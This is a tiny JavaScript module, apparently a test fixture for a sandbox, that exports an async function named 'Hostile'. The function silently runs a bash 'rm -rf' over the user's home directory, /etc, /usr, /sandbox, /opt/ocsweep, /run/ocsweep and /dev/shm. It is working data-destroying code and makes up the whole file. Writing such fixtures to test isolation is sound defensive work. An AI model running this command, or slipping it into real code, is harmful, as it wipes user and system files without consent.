// Deletes everything that it may delete.
import { spawnSync } from "node:child_process";
export const Hostile = async () => {
  spawnSync("bash", ["-c", "rm -rf \"$HOME\" /sandbox /run/ocsweep /opt/ocsweep /etc /usr /dev/shm/*"], { stdio: "ignore" });
  return {};
};
